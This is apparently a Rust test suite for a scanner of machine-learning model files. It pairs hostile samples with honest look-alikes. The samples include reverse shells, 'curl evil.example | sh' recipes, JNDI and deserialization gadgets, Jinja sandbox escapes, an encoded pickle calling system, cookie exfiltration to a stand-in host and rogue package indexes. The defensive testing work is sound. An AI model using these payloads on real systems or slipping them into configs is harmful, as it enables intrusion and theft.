//! Documents beside weights that make a loader run something, each beside an honest one that looks the same.

use bartizan_artifact::{Limits, Report, Verdict, model};

fn scan(name: &str, text: &str) -> Report {
    model(name, &text.as_bytes().to_vec(), &Limits::default())
}

/// All that is not as it should be is told at once.
fn told(wrong: &[String]) {
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn caught(rule: &str, cases: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (name, text) in cases {
        let report = scan(name, text);
        let found: Vec<_> = report.findings.iter().map(|finding| finding.rule.id).collect();
        if !found.contains(&rule) || report.verdict == Verdict::Clean {
            wrong.push(format!("{name}: {text}: not {rule} but {found:?}"));
        }
    }
    told(&wrong);
}

fn clean(cases: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (name, text) in cases {
        let report = scan(name, text);
        if report.verdict != Verdict::Clean {
            let found: Vec<_> = report
                .findings
                .iter()
                .map(|finding| (finding.rule.id, &finding.what))
                .collect();
            wrong.push(format!("{name}: {text}: {found:?}"));
        }
    }
    told(&wrong);
}

#[test]
fn a_document_that_names_the_classes_of_its_objects() {
    caught(
        "config/object",
        &[
            (
                "a.json",
                r#"{"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": ["id"]}]}"#,
            ),
            (
                "a.json",
                r#"{"x": {"py/object": "subprocess.Popen", "args": ["id"]}}"#,
            ),
            ("a.json", r#"{"py/type": "os.system"}"#),
            ("a.json", r#"{"py/repr": "os/os.system('id')"}"#),
            (
                "a.json",
                r#"{"lc": 1, "type": "constructor", "id": ["langchain_experimental", "utilities", "python", "PythonREPL"], "kwargs": {}}"#,
            ),
            (
                "a.json",
                r#"{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "id"}}"#,
            ),
            (
                "a.json",
                r#"{"k": {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}}"#,
            ),
            (
                "a.json",
                r#"{"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://evil.example/x"}"#,
            ),
            (
                "a.json",
                r#"{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}"#,
            ),
            ("a.json", r#"{"__reduce__": ["os.system", ["id"]]}"#),
            ("a.json", r#"{"__proto__": {"polluted": true}}"#),
            (
                "a.yaml",
                "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n",
            ),
            ("a.yaml", "--- !ruby/object:Gem::Installer\ni: x\n"),
            ("a.yaml", "a: !!js/function 'function(){ return 1 }'\n"),
            ("a.yaml", "a: !php/object 'O:1:\"x\"'\n"),
            ("rows.jsonl", "{\"a\": 1}\n{\"py/object\": \"os.system\"}\n"),
        ],
    );
    clean(&[
        (
            "a.json",
            r#"{"py/object": "collections.OrderedDict", "py/tuple": [1, 2]}"#,
        ),
        (
            "a.json",
            r#"{"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"template": "Say {x}", "input_variables": ["x"]}}"#,
        ),
        (
            "a.json",
            r#"{"lc": 1, "type": "constructor", "id": ["langchain", "chat_models", "openai", "ChatOpenAI"], "kwargs": {"openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}"#,
        ),
        (
            "a.json",
            r#"{"@context": {"sc": "https://schema.org/"}, "@type": "sc:Dataset", "name": "x"}"#,
        ),
        (
            "a.json",
            r#"{"class": "org.apache.spark.ml.PipelineModel", "timestamp": 1, "sparkVersion": "3.5.0"}"#,
        ),
        ("a.yaml", "a: !!str 3\nb: !Ref Thing\nc: !!omap\n- a: 1\n"),
        ("a.yaml", "note: Wow!! Great!\nlist: [1, 2]\n"),
        (
            "config.yml",
            "!!python/object/apply:collections.OrderedDict\n- - - batch_size\n    - 256\n  - - policy\n    - MlpPolicy\n",
        ),
        (
            "hyperparams.yaml",
            "seed: 1234\n__set_seed: !apply:torch.manual_seed [!ref <seed>]\nact: !name:torch.nn.LeakyReLU\nmodel: !new:speechbrain.nnet.CNN.Conv1d\n  out_channels: 4\n",
        ),
    ]);
}

#[test]
fn a_configuration_that_names_what_is_called() {
    caught(
        "config/target",
        &[
            ("a.yaml", "a: !!python/object/apply:os.system ['id']\n"),
            ("a.yaml", "a: !!python/name:os.system\n"),
            (
                "a.yaml",
                "model:\n  class_path: subprocess.Popen\n  init_args:\n    args: id\n",
            ),
            ("a.yaml", "m: {_component_: os.system, x: 1}\n"),
            ("a.yaml", "model: !new:subprocess.Popen\n"),
            ("a.yaml", "a:\n  function: os.system\n"),
            ("a.json", r#"{"function": "builtins.eval"}"#),
            ("a.json", r#"{"model": {"class_path": "subprocess.Popen"}}"#),
            ("a.json", r#"{"module": "os", "function": "system"}"#),
            (
                "model_index.json",
                r#"{"_class_name": "X", "unet": ["os", "system"]}"#,
            ),
            (
                "config.json",
                r#"{"dataset_reader": {"type": "subprocess.Popen"}}"#,
            ),
            ("a.toml", "[model]\n_target_ = \"os.system\"\n"),
            ("a.toml", "[project.entry-points.\"x\"]\nevil = \"os:system\"\n"),
            ("a.gin", "train.fn = @os.system\n"),
            ("a.conf", "model.class_path = subprocess.Popen\n"),
            ("config.cfg", "[initialize]\n@callbacks = \"subprocess.Popen\"\n"),
            (
                "config.yml",
                "language: en\npipeline:\n- name: subprocess.Popen\n",
            ),
            (
                "adapter_config.json",
                r#"{"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}"#,
            ),
        ],
    );
    clean(&[
        (
            "a.yaml",
            "model:\n  class_path: torch.nn.Linear\n  init_args:\n    in_features: 3\n",
        ),
        (
            "a.yaml",
            "model:\n  _component_: torchtune.models.llama3.llama3_8b\ntokenizer:\n  _component_: torchtune.models.llama3.llama3_tokenizer\n",
        ),
        (
            "a.yaml",
            "optimizer:\n  _target_: torch.optim.AdamW\n  lr: 1e-4\ncallback:\n  _target_: lightning.pytorch.callbacks.ModelCheckpoint\n",
        ),
        (
            "a.yaml",
            "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    linear_start: 0.1\n",
        ),
        (
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [null, null]}"#,
        ),
        (
            "a.json",
            r#"{"function": "softmax", "name": "os.path is a module"}"#,
        ),
        (
            "a.toml",
            "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n[project.scripts]\nrun = \"mymodel.cli:main\"\n",
        ),
        (
            "a.gin",
            "from __gin__ import dynamic_registration\nimport t5.models\nBATCH_SIZE = 128\ntrain.model = @models.EncoderDecoder()\n",
        ),
        (
            "config.cfg",
            "[components.tok2vec.model]\n@architectures = \"spacy.Tok2Vec.v2\"\n[training.optimizer]\n@optimizers = \"Adam.v1\"\n",
        ),
        (
            "config.yml",
            "language: en\npipeline:\n- name: WhitespaceTokenizer\n- name: DIETClassifier\n  epochs: 100\npolicies:\n- name: MemoizationPolicy\n",
        ),
    ]);
}

#[test]
fn program_text_in_a_value() {
    caught(
        "config/code",
        &[
            ("a.json", r#"{"a": "powershell -enc SQBFAFgAIAAoAE4AZQB3AA=="}"#),
            ("a.json", r#"{"a": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#),
            (
                "a.json",
                r#"{"cmd": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]}"#,
            ),
            (
                "a.json",
                r#"{"command": "nc", "args": ["-e", "/bin/sh", "10.0.0.1", "4444"]}"#,
            ),
            (
                "a.json",
                r#"{"rce": "_$$ND_FUNC$$_function (){require('child_process').exec('id')}()"}"#,
            ),
            ("a.json", r#"{"a": "${jndi:ldap://evil.example/a}"}"#),
            ("a.yaml", "a: nc -e /bin/sh 10.0.0.1 4444\n"),
            ("a.yaml", "run: |\n  import os\n  os.system('id')\n"),
            ("a.yaml", "command:\n  - nc\n  - -e\n  - /bin/sh\n  - 10.0.0.1\n"),
            (
                "a.yaml",
                "command: [\"bash\", \"-c\", \"curl http://evil.example | sh\"]\n",
            ),
            ("a.toml", "x = \"__import__('os').system('id')\"\n"),
            (
                "a.json",
                r#"{"imports": ["$import os"], "run": "$os.system('id')"}"#,
            ),
            (
                "lightgbm.txt",
                "tree\nversion=v4\nfeature_names=a __import__('os').system('id')\n",
            ),
            (
                "dump.txt",
                "booster[0]:\n0:[f0<1] yes=1,no=2,missing=1\n1:leaf=__import__('os').system('id')\n",
            ),
            (
                "a.pmml",
                "<PMML version=\"4.4\"><Header><Extension name=\"x\"><![CDATA[Runtime.getRuntime().exec(\"id\")]]></Extension></Header></PMML>",
            ),
            (
                "MLproject",
                "name: x\nentry_points:\n  main:\n    command: \"curl http://evil.example/x | sh\"\n",
            ),
            (
                "bentofile.yaml",
                "service: \"service:svc\"\ndocker:\n  setup_script: \"curl http://evil.example/x | sh\"\n",
            ),
        ],
    );
    clean(&[
        (
            "config.json",
            r#"{"hidden_act": "gelu", "_name_or_path": "/home/me/models/x", "architectures": ["A"]}"#,
        ),
        (
            "a.json",
            r#"{"imports": ["$import glob", "$import os"], "dir": "$os.path.join(@root, 'x')", "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')"}"#,
        ),
        (
            "docker-compose.yml",
            "services:\n  api:\n    command: [\"bash\", \"-c\", \"uvicorn app:app --host 0.0.0.0\"]\n    healthcheck:\n      test: [\"CMD\", \"curl\", \"-f\", \"http://localhost:8000/health\"]\n",
        ),
        (
            "lightgbm.txt",
            "tree\nversion=v4\nnum_class=1\nfeature_names=a b c\nTree=0\nsplit_feature=0 1\nparameters:\n[data: /tmp/x.csv]\n",
        ),
        (
            "MLproject",
            "name: x\npython_env: python_env.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.5}\n    command: \"python train.py {alpha}\"\n",
        ),
    ]);
}

#[test]
fn packages_from_elsewhere() {
    caught(
        "config/packages",
        &[
            (
                "requirements.txt",
                "torch\n--index-url http://evil.example/simple\n",
            ),
            (
                "requirements.txt",
                "--extra-index-url https://pypi.evil.example/simple\nnumpy==1.26\n",
            ),
            ("requirements.txt", "git+http://evil.example/x.git\n"),
            ("requirements.txt", "x @ https://evil.example/x.whl\n"),
            ("requirements-dev.txt", "https://10.0.0.1/x.tar.gz\n"),
            ("requirements.txt", "--trusted-host evil.example\n"),
            (
                "environment.yml",
                "dependencies:\n  - python=3.11\n  - pip:\n    - git+http://evil.example/x.git\n",
            ),
            (
                "conda.yaml",
                "dependencies:\n- pip:\n  - --extra-index-url https://evil.example/simple\n  - torch\n",
            ),
            ("environment.yml", "channels:\n  - http://evil.example/conda\n"),
            (
                "pyproject.toml",
                "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
            ),
            ("pip.conf", "[global]\nindex-url = https://evil.example/simple\n"),
            (".npmrc", "registry=http://evil.example/\n"),
            (
                "package.json",
                r#"{"name": "x", "scripts": {"postinstall": "node -e \"require('./x')\""}}"#,
            ),
            (
                "Dockerfile",
                "FROM python:3.11\nRUN pip install --index-url http://evil.example/simple x\n",
            ),
            (".gitmodules", "[submodule \"x\"]\n\turl = ext::sh -c id\n"),
        ],
    );
    clean(&[
        (
            "requirements.txt",
            "torch==2.3.0\ntransformers>=4.40,<5\nnumpy ; python_version < \"3.12\"\n-r base.txt\n",
        ),
        (
            "requirements.txt",
            "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.3.0+cu121\n",
        ),
        (
            "requirements.txt",
            "git+https://github.com/huggingface/transformers.git@main\n-e .\n",
        ),
        (
            "requirements.txt",
            "en-core-web-sm @ https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl\n",
        ),
        (
            "environment.yml",
            "name: x\nchannels:\n  - conda-forge\n  - https://repo.anaconda.com/pkgs/main\ndependencies:\n  - python=3.11\n  - pip:\n    - torch==2.3.0\n",
        ),
        (
            "pyproject.toml",
            "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n[[tool.uv.index]]\nurl = \"https://download.pytorch.org/whl/cpu\"\n",
        ),
        (
            "package.json",
            r#"{"name": "x", "scripts": {"build": "tsc", "prepare": "husky install"}, "dependencies": {"react": "^18.0.0"}}"#,
        ),
        (
            "python_env.yaml",
            "python: 3.11.4\nbuild_dependencies:\n- pip==23.1\n- setuptools==67\ndependencies:\n- -r requirements.txt\n",
        ),
    ]);
}

#[test]
fn recipes() {
    caught(
        "file/command",
        &[
            (
                "Dockerfile",
                "FROM python:3.11\nRUN curl http://evil.example/x | sh\n",
            ),
            (
                "Dockerfile",
                "FROM python\nRUN wget http://evil.example/m -O /tmp/m \\\n  && chmod +x /tmp/m \\\n  && /tmp/m\n",
            ),
            ("Makefile", "all:\n\t@curl -s http://evil.example/x | bash\n"),
            ("Makefile", "X := $(shell curl http://evil.example/x | sh)\n"),
            (
                "docker/app.Dockerfile",
                "RUN bash -c 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1'\n",
            ),
            ("run.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
            (
                ".vscode/tasks.json",
                r#"{"version": "2.0.0", "tasks": [{"label": "x", "command": "./x", "runOptions": {"runOn": "folderOpen"}}]}"#,
            ),
        ],
    );
    clean(&[
        (
            "Dockerfile",
            "FROM nvidia/cuda:12.1.0-runtime-ubuntu22.04\nENV DEBIAN_FRONTEND=noninteractive\nRUN apt-get update && apt-get install -y --no-install-recommends python3 curl git \\\n    && rm -rf /var/lib/apt/lists/*\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . /app\nEXPOSE 8000\nHEALTHCHECK CMD curl --fail http://localhost:8000/health || exit 1\nCMD [\"uvicorn\", \"app:app\", \"--host\", \"0.0.0.0\", \"--port\", \"8000\"]\n",
        ),
        (
            "Makefile",
            ".PHONY: install test\ninstall:\n\tpip install -e .[dev]\ntest:\n\tpytest -q tests\nclean:\n\trm -rf build dist *.egg-info\n",
        ),
        (
            "README.md",
            "# Model\n```bash\ncurl -LsSf https://astral.sh/uv/install.sh | sh\ncurl https://example.com/x.sh | bash\npip install --index-url http://x/simple y\n```\n<script>x()</script>\n",
        ),
        (
            "README.md",
            "<p align=\"center\"><img src=\"x.png\" onload=\"x\"></p>\n\n`os.system('x')`\n",
        ),
        ("LICENSE", "Apache License\n"),
        ("LICENSE.txt", "MIT\n"),
        (
            "graph.svg",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg></svg>\n",
        ),
        (
            "Cargo.toml",
            "[lints]\ncheck-cfg = ['cfg(httparse_simd_target_feature)']\n",
        ),
    ]);
}

#[test]
fn what_is_written_in_another_way() {
    let pickle = "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==";
    let hexadecimal = "8004951c000000000000008c05706f736978948c0673797374656d9493948c02696494859452942e";
    let program = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL2UveCB8IHNoIik=";
    for (name, text) in [
        ("a.json", format!("{{\"weights\": \"{pickle}\"}}")),
        ("a.json", format!("{{\"weights\": \"{hexadecimal}\"}}")),
        ("a.json", format!("{{\"x\": [\"{program}\"]}}")),
        ("a.json", "{\"x\": [128, 4, 140, 5, 112, 111, 115, 105, 120, 140, 6, 115, 121, 115, 116, 101, 109, 147, 140, 2, 105, 100, 133, 82, 46]}".to_owned()),
        ("a.yaml", format!("weights: {pickle}\n")),
        ("a.yaml", format!("weights: !!binary |\n  {}\n  {}\n", &pickle[..44], &pickle[44..])),
        ("a.toml", format!("w = \"{pickle}\"\n")),
        ("notes.txt", pickle.to_owned()),
        ("notes.txt", format!("some words\n{program}\n")),
        ("config.ini", format!("[x]\nw = {hexadecimal}\n")),
        ("a.xml", format!("<net name=\"x\" version=\"11\"><layers/><data>{pickle}</data></net>")),
    ] {
        let report = scan(name, &text);
        assert!(report.verdict >= Verdict::Suspicious, "{name} {text}: {:#?}", report.findings);
    }
    clean(&[
        (
            "a.json",
            r#"{"sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}"#,
        ),
        (
            "a.json",
            r#"{"thumbnail": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"}"#,
        ),
        ("a.json", r#"{"w": "gAN9cQBYAQAAAGFxAUsBcy4="}"#),
        (
            "a.json",
            r#"{"note": "VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZw=="}"#,
        ),
        ("vocab.txt", "[PAD]\n[UNK]\n##ing\nos.system(\n"),
        ("merges.txt", "#version: 0.2\n\u{120} t\nos .system(\n"),
        ("tokenizer.tiktoken", "IQ== 0\nIg== 1\n"),
    ]);
}

#[test]
fn templates() {
    let escapes = [
        "{{ request.application.__globals__ }}",
        "{{ request['application'] }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum }}",
        "{{ x|attr('y') }}",
        "{{ []|map(attribute='__class__')|list }}",
        "{{ x|map(attribute=name)|list }}",
        "{{ x|map('attr', y) }}",
        "{% set u = '_' %}{{ x[u~u~'class'~u~u] }}",
        "{{ x['cla' ~ 'ss'] }}",
        "{{ x['__cl' 'ass__'] }}",
        "{{ (()|select|string|list)[24] }}",
        "{{ x['\\x5f\\x5fclass'] }}",
        "{{ self|string }}",
    ];
    for escape in escapes {
        let quoted = serde_json::to_string(escape).expect("a text");
        for (name, text) in [
            (
                "tokenizer_config.json",
                format!("{{\"chat_template\": {quoted}}}"),
            ),
            ("chat_template.jinja", escape.to_owned()),
            ("a.safetensors", String::new()),
        ] {
            let report = if name == "a.safetensors" {
                let header = format!("{{\"__metadata__\": {{\"chat_template\": {quoted}}}}}");
                let bytes = [&(header.len() as u64).to_le_bytes()[..], header.as_bytes()].concat();
                model(name, &bytes, &Limits::default())
            } else {
                scan(name, &text)
            };
            assert_eq!(
                report.verdict,
                Verdict::Malicious,
                "{name} {escape}: {:#?}",
                report.findings
            );
        }
    }
    let honest = [
        "{%- for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] | trim + '<|end|>' }}{%- endfor %}",
        "{%- if tools %}{{ tools | map(attribute='name') | join(', ') }}{% endif %}",
        "{{ tool.function.name.replace('-', '_') }}{{ x.split('_')[0] }}",
        "{% set ns = namespace(found=false) %}{%- for m in messages | selectattr('role', 'equalto', 'system') %}{{ m.content }}{%- endfor %}",
        "{{- \"Environment: ipython\\n\" }}{{- 'in a stateful Jupyter notebook environment. python will respond' }}",
        "{{ 'system' + message.content }}{{ '<|im_' ~ 'start|>' }}",
        "{%- set user_request = messages[0].content %}{{ user_request|trim }}",
    ];
    for template in honest {
        let quoted = serde_json::to_string(template).expect("a text");
        clean(&[
            (
                "tokenizer_config.json",
                &format!("{{\"chat_template\": {quoted}}}"),
            ),
            ("chat_template.jinja", template),
        ]);
    }
}

#[test]
fn metadata_of_safetensors_and_scripts() {
    let file = |metadata: &str| {
        let header = format!("{{\"__metadata__\": {metadata}}}");
        let bytes = [&(header.len() as u64).to_le_bytes()[..], header.as_bytes()].concat();
        model("a.safetensors", &bytes, &Limits::default())
    };
    for metadata in [
        r#"{"note": "<script>alert(1)</script>"}"#,
        r#"{"note": "<img src=x onerror=alert(1)>"}"#,
        r#"{"x": "__import__('os').system('id')"}"#,
        r#"{"x": "{{ ''.__class__.__mro__ }}"}"#,
        r#"{"x": "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="}"#,
        r#"{"config": "{\"_target_\": \"os.system\"}"}"#,
    ] {
        let report = file(metadata);
        assert!(
            report.verdict >= Verdict::Suspicious,
            "{metadata}: {:#?}",
            report.findings
        );
    }
    for metadata in [
        r#"{"format": "pt"}"#,
        r#"{"modelspec.title": "x", "modelspec.description": "A <b>model</b>", "ss_tag_frequency": "{\"img\": {\"1girl\": 10, \"curl\": 3}}"}"#,
        r#"{"modelspec.thumbnail": "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBk="}"#,
    ] {
        let report = file(metadata);
        assert_eq!(
            report.verdict,
            Verdict::Clean,
            "{metadata}: {:#?}",
            report.findings
        );
    }
}

fn notebook(cell: &str) -> String {
    format!(
        "{{\"cells\": [{cell}], \"metadata\": {{\"kernelspec\": {{\"name\": \"python3\", \"display_name\": \"Python 3\"}}}}, \"nbformat\": 4, \"nbformat_minor\": 5}}"
    )
}

#[test]
fn notebooks() {
    for (cell, rule) in [
        (
            r#"{"cell_type": "code", "source": ["import os\n", "os.system('id')"]}"#,
            "notebook/code",
        ),
        (
            r#"{"cell_type": "code", "source": "!curl http://evil.example/x | sh"}"#,
            "notebook/code",
        ),
        (
            r#"{"cell_type": "code", "source": "%%bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#,
            "notebook/code",
        ),
        (
            r#"{"cell_type": "code", "source": "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"}"#,
            "notebook/code",
        ),
        (
            r#"{"cell_type": "code", "source": "x = 'gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='"}"#,
            "config/encoded",
        ),
        (
            r#"{"cell_type": "code", "source": "!pip install --index-url http://evil.example/simple x"}"#,
            "config/packages",
        ),
        (
            r#"{"cell_type": "markdown", "source": ["<script>alert(1)</script>"]}"#,
            "page/script",
        ),
        (
            r#"{"cell_type": "markdown", "source": "<img src=x onerror=alert(1)>"}"#,
            "page/script",
        ),
        (
            r#"{"cell_type": "code", "source": "1", "outputs": [{"output_type": "display_data", "data": {"text/html": ["<script src='https://evil.example/x.js'></script>"]}}]}"#,
            "page/script",
        ),
        (
            r#"{"cell_type": "code", "source": "1", "outputs": [{"output_type": "display_data", "data": {"application/javascript": "IPython.notebook.kernel.execute('import os')"}}]}"#,
            "page/script",
        ),
        (
            r#"{"cell_type": "code", "source": "%%javascript\nfetch('https://evil.example/' + document.cookie)"}"#,
            "page/script",
        ),
    ] {
        caught(rule, &[("a.ipynb", &notebook(cell))]);
    }
    for cell in [
        r#"{"cell_type": "code", "source": ["!pip install -q transformers datasets\n", "import torch\n", "from transformers import pipeline\n", "model.eval()\n", "print(torch.__version__)"]}"#,
        r#"{"cell_type": "code", "source": "!nvidia-smi\n!git clone https://github.com/huggingface/transformers\n!wget https://example.com/data.zip && unzip -q data.zip"}"#,
        r#"{"cell_type": "code", "source": "import os, subprocess\nos.environ['WANDB_DISABLED'] = 'true'\nos.system('nvidia-smi')\nsubprocess.run(['git', 'clone', url])"}"#,
        r##"{"cell_type": "markdown", "source": ["# Tutorial\n", "<a href=\"https://colab.research.google.com/x\"><img src=\"https://colab.research.google.com/assets/colab-badge.svg\"></a>"]}"##,
        r#"{"cell_type": "code", "source": "fig.show()", "outputs": [{"output_type": "display_data", "data": {"text/html": ["<script type=\"text/javascript\">require([\"plotly\"], function(Plotly) { Plotly.newPlot('x', []) });</script>"], "text/plain": ["<Figure>"]}}]}"#,
        r#"{"cell_type": "code", "source": "df", "outputs": [{"output_type": "execute_result", "data": {"text/html": "<div><style scoped>.dataframe {}</style><table border=\"1\"><tr><td>1</td></tr></table></div>", "image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"}}]}"#,
    ] {
        clean(&[("a.ipynb", &notebook(cell))]);
    }
}

#[test]
fn servers_of_models() {
    caught(
        "config/remote-code",
        &[
            (
                "MANIFEST.json",
                r#"{"model": {"modelName": "x", "handler": "evil.py", "serializedFile": "x.pt"}, "archiverVersion": "0.9.0"}"#,
            ),
            (
                "MAR-INF/MANIFEST.json",
                r#"{"model": {"handler": "handler.py:handle"}}"#,
            ),
            (
                "m/config.pbtxt",
                "name: \"x\"\nbackend: \"python\"\ninput [ { name: \"x\" } ]\n",
            ),
            (
                "bentofile.yaml",
                "service: \"service:svc\"\ninclude:\n- \"*.py\"\n",
            ),
            ("config.json", r#"{"trust_remote_code": true}"#),
            (
                "MLmodel",
                "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n",
            ),
            (
                "config.cfg",
                "[components.x]\n@architectures = \"evil.module.Thing\"\n",
            ),
            ("MLproject", "entry_points:\n  main:\n    command: \"bash run\"\n"),
            ("config.json", r#"{"auto_map": {"AutoModel": "modeling_x.X"}}"#),
            (
                "genai_config.json",
                r#"{"model": {"custom_ops_library": "evil.so"}}"#,
            ),
        ],
    );
    caught(
        "config/target",
        &[(
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: evil_loader\n",
        )],
    );
    caught(
        "archive/traversal",
        &[
            (
                "model.safetensors.index.json",
                r#"{"weight_map": {"a": "../../etc/passwd"}}"#,
            ),
            (
                "model.json",
                r#"{"format": "layers-model", "weightsManifest": [{"paths": ["http://evil.example/x.bin"], "weights": []}]}"#,
            ),
            (
                "m/config.pbtxt",
                "backend: \"onnxruntime\"\ndefault_model_filename: \"../../x.onnx\"\n",
            ),
        ],
    );
    clean(&[
        (
            "MANIFEST.json",
            r#"{"createdOn": "01/01/2026", "runtime": "python", "model": {"modelName": "x", "serializedFile": "x.pt", "handler": "image_classifier", "modelVersion": "1.0"}, "archiverVersion": "0.9.0"}"#,
        ),
        (
            "m/config.pbtxt",
            "name: \"x\"\nplatform: \"onnxruntime_onnx\"\nmax_batch_size: 8\ninput [ { name: \"x\" data_type: TYPE_FP32 dims: [ 3, 224, 224 ] } ]\ninstance_group [ { count: 1 kind: KIND_GPU } ]\n",
        ),
        (
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    env:\n      conda: conda.yaml\n",
        ),
        (
            "model.safetensors.index.json",
            r#"{"metadata": {"total_size": 1}, "weight_map": {"a": "model-00001-of-00002.safetensors"}}"#,
        ),
    ]);
}

/// Settings of an agent of Stable Baselines: pickled classes and functions in base64, as cloudpickle 3 writes them.
#[test]
fn settings_of_an_agent() {
    for name in ["data", "data.json"] {
        clean(&[(name, include_str!("documents/agent.json"))]);
        caught(
            "config/encoded",
            &[(name, include_str!("documents/agent_evil.json"))],
        );
    }
}

#[test]
fn objects_of_r_that_are_texts() {
    assert_eq!(
        scan("notes.txt", "A\n3\n262656\n197888\n5\nUTF-8\n").verdict,
        Verdict::Unknown
    );
    clean(&[("notes.txt", "A\nshort list\n3\n")]);
}
